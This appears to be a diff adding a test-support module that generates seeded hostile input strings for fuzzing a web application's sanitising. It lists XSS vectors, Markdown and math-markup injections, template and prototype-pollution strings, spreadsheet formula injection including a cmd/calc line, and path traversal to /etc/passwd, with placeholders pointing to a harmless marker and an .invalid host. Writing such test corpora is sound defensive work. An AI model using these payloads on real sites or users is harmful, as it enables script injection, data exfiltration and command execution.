@@ -1,0 +1,143 @@
+/**
+ * What was ever tried to make a text run, ask elsewhere, or change what others have: templates with RUN for code that
+ * tells that it ran, OUT for an address elsewhere. `payloads(count)` mixes them with ways to break out of where they
+ * stand, by the seed of support/random.mjs. To add one: a line.
+ */
+import { random } from '../web/support/random.mjs';
+
+const templates = [
+  '<script>RUN</script>',
+  '<img src=x onerror=RUN>',
+  '<img src=OUT>',
+  '<svg onload=RUN>',
+  '<svg><script>RUN</script></svg>',
+  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:RUN"><text x=20 y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>',
+  '<svg><style><img src=x onerror=RUN></style></svg>',
+  '<svg><image href="OUT"/><feImage href="OUT"/></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
+  '<math href="javascript:RUN">x</math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
+  '<iframe src="javascript:RUN"></iframe>',
+  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
+  '<object data="javascript:RUN"></object><embed src="OUT">',
+  '<a href="javascript:RUN">x</a>',
+  '<a href="java&#10;script:RUN">x</a>',
+  '<form action="javascript:RUN"><button>x</button></form><input autofocus onfocus=RUN>',
+  '<details open ontoggle=RUN><summary>x</summary></details>',
+  '<video><source onerror=RUN></video><audio src=x onerror=RUN>',
+  '<body onload=RUN><marquee onstart=RUN>x</marquee>',
+  '<link rel=stylesheet href=OUT><style>@import "OUT";</style>',
+  '<meta http-equiv=refresh content="0;url=OUT">',
+  '<base href="OUT/"><noscript><p title="</noscript><img src=x onerror=RUN>">',
+  '<template><script>RUN</script></template><xmp><p title="</xmp><img src=x onerror=RUN>">',
+  '<posenc-chart spec="{}" onready=RUN></posenc-chart><custom-x style="background:url(OUT)">',
+  '"><script>RUN</script>',
+  "'><img src=x onerror=RUN>",
+  '"autofocus onfocus=RUN x="',
+  '</title><script>RUN</script>',
+  '</textarea><script>RUN</script>',
+  '</script><script>RUN</script>',
+  '</notebook><img src=x onerror=RUN>',
+  '--><script>RUN</script><!--',
+  ']]><script>RUN</script><![CDATA[',
+  'javascript:RUN',
+  ' \u0001javascript:RUN',
+  'java\tscript:RUN',
+  'data:text/html,<script>RUN</script>',
+  'vbscript:RUN',
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e',
+  '[x](javascript:RUN)',
+  '[x](<javascript:RUN>)',
+  '[x](JaVaScRiPt&colon;RUN)',
+  '[x]: javascript:RUN\n\n[x]',
+  '![x](OUT)',
+  '![x](javascript:RUN)',
+  '[x](OUT "\\" onmouseover=RUN")',
+  '<javascript:RUN>',
+  '`<img src=x onerror=RUN>`',
+  '```html onerror=RUN\n<script>RUN</script>\n```',
+  '| <script>RUN</script> |\n| - |\n| ![](OUT) |',
+  '$\\href{javascript:RUN}{x}$',
+  '$\\url{OUT}$ $\\includegraphics{OUT}$',
+  '$\\htmlData{x=RUN}{y} \\htmlStyle{background:url(OUT)}{y} \\htmlClass{x}{y} \\htmlId{main}{y}$',
+  '$\\style{position:fixed;inset:0}{x} \\class{x" onclick=RUN}{y}$',
+  '$\\text{<img src=x onerror=RUN>}$',
+  '$\\unicode{x3c}\\mathrm{</math><img src=x onerror=RUN>}$',
+  '$\\def\\x{\\x\\x}\\x$ $\\rule{9999em}{9999em}$ $\\hspace{-999em}x$',
+  '${RUN}',
+  '${globalThis.constructor.constructor("RUN")()}',
+  '{{constructor.constructor("RUN")()}}',
+  '#{RUN} <%= RUN %> {%x%} *{RUN}',
+  '`+RUN+`',
+  "'+RUN+'",
+  '";RUN;//',
+  '\\";RUN;//',
+  '\u2028RUN\u2029',
+  '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}}}',
+  '__proto__',
+  'constructor',
+  'prototype.toString',
+  '__defineGetter__',
+  'hasOwnProperty',
+  '__proto__[ran]',
+  'constructor.prototype.ran',
+  '=HYPERLINK("OUT","x")',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|x',
+  '-2+3+RUN',
+  '@SUM(1)*WEBSERVICE("OUT")',
+  '\t=1+1',
+  '../../../../etc/passwd',
+  '..\\..\\x.html?<script>RUN</script>',
+  'x\0<script>RUN</script>',
+  '\u202egnp.<script>RUN</script>',
+  '\u2066admin\u2069 \u200b\ufeff<img src=x onerror=RUN>',
+  '\ud800<img src=x onerror=RUN>\udfff',
+  '＜script＞RUN＜/script＞',
+  '%3Cscript%3ERUN%3C/script%3E',
+  '&lt;script&gt;RUN&lt;/script&gt;',
+  '&#60;img src=x onerror=RUN&#62;',
+  '\\u003cimg src=x onerror=RUN\\u003e',
+  'url(OUT)',
+  'red;background:url(OUT)',
+  'expression(RUN)',
+  'x{}*{background:url(OUT)}',
+  '//OUT/%2e%2e',
+  '1e9999',
+  '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[',
+  'Z̸̡̛̗̭͓̦͖̝̬͙̥͂̔̾̀̑͌̋͘a',
+];
+/** What stands before and after, to get out of quotes, comments, attributes, JSON. */
+const around = [
+  ['', ''],
+  ['x', ''],
+  ['"', '"'],
+  ["'/>", ''],
+  ['</p>', '<!--'],
+  ['\n\n', '\n\n'],
+  ['*/', '/*'],
+  ['"}', '{"'],
+  ['&quot;&gt;', ''],
+  ['\u202e', ''],
+];
+/** Letters in another case, white space of another kind. */
+const bent = [
+  (text) => text,
+  (text) => text.replace(/<(\/?)(script|img|svg|iframe)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
+  (text) => text.replaceAll(' src', '/src').replaceAll(' on', '\fon'),
+  (text) => text.replaceAll('javascript:', 'java\nscript:'),
+];
+
+/** Texts, each with a number of its own by which it would be known. */
+export function payloads(count, name = 'hostile payloads') {
+  const next = random(name);
+  const pick = (list) => list[Math.floor(next() * list.length)];
+  return Array.from({ length: count }, (_, i) => {
+    const [before, after] = i < templates.length ? around[0] : pick(around);
+    const bend = i < templates.length ? bent[0] : pick(bent);
+    const text = bend(templates[i % templates.length]);
+    return `${before}${text.replaceAll('RUN', `ran(${i})`).replaceAll('OUT', `//hostile.invalid/${i}`)}${after}`;
+  });
+}
